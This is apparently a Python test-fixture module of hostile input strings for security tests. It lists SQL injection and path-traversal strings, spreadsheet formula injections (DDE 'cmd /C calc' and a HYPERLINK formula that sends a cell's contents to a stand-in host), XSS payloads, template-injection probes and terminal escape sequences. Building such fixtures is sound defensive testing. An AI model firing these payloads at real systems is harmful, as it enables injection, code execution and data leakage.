"""Texts that do harm where they are not taken for text. Every way in and every way out is tried with all of them."""

from __future__ import annotations

SQL = (
    'x"; drop table posts; --', "x' OR 1=1 --", '"){}', "../../etc/passwd", "n" * 300, "SELECT", "\u00c5/\u00e5",
    "A\u030a/a\u030a",
)  # fmt: skip
SPREADSHEET = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "\uff1d1+1",
    '=HYPERLINK("http://x/?"&A1,"klicka")', '=IMPORTXML("http://x","//a")', '"=1+1', "a;=1+1", "a\n=1+1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "<svg/onload=alert(3)>",
    "</script><script>alert(4)</script>", "javascript:alert(5)", "data:text/html,<b>x</b>", "<!--",
    "&lt;script&gt;", "[x](javascript:alert(1))", "![](http://127.0.0.1:9/t.gif)", "{{7*7}}", "${7*7}", "{% raw %}",
    "<iframe>", "a|b", "`x`",
)  # fmt: skip
TERMINAL = ("\nERROR fake line", "\x1b[2J", "\u202eabc", "a\u200bb", "[bold red]x[/]", "\x07", "a\rb")
ALL = (*SQL, *SPREADSHEET, *MARKUP, *TERMINAL)
